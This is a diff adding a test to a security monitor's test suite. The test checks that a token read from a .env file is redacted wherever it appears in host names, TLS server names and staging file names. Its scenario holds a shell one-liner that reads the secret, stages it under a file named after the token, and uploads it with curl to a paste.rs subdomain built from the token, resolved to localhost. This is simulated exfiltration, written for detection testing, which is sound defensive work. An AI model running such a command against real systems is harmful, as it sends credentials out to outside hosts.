@@ -80,3 +80,26 @@ def test_token_of_a_file_read_is_redacted_wherever_it_sits(monitor, standin, fak
     execs = [r for r in monitor.records()
              if get(r, "event.action") == "exec" and get(r, "process.name") == "curl"]
     assert execs and all("[REDACTED]" in get(r, "process.command_line") for r in execs), execs
+
+
+# The names a process chose are redacted by content too: the token of a file read as a host name's
+# label (SNI, Host, the flow's domain, the alert's destination and reason) and in a staging
+# file's name (its opens and reads, the alert's files). The site stays as evidence.
+HOST_TOKEN = "q7mw2xp9vk4tr8nb3yl5"
+
+
+def test_token_of_a_file_read_in_a_host_or_file_name_is_redacted(monitor, standin, fake_home, tmp_path):
+    env = fake_home.path / "app" / ".env"
+    env.parent.mkdir(parents=True, exist_ok=True)
+    env.write_text(f"DEPLOY_KEY={HOST_TOKEN}\nREGION=eu-west-1\n")
+    case = Scenario(
+        "env-token-in-host-and-file-name-to-paste", "alert",
+        'V=$(cut -d= -f2 $HOME/app/.env | head -1); mkdir -p $HOME/stage; cp $HOME/app/.env "$HOME/stage/$V.txt"; '
+        'curl -sk --resolve "$V.paste.rs:8443:127.0.0.1" --data-binary @"$HOME/stage/$V.txt" "https://$V.paste.rs:8443/"',
+        technique="T1567.003", domain=f"{HOST_TOKEN}.paste.rs", uploads=True)
+    found = run_attack(case, monitor, standin, fake_home, tmp_path)
+    output = monitor.output.read_bytes()
+    assert HOST_TOKEN.encode() not in output, "the token is in the output"
+    assert {get(a, "destination.domain") for a in found} == {"[REDACTED].paste.rs"}, found
+    assert [r for r in monitor.records() if get(r, "tls.client.server_name") == "[REDACTED].paste.rs"], \
+        "the ClientHello record, its name redacted"
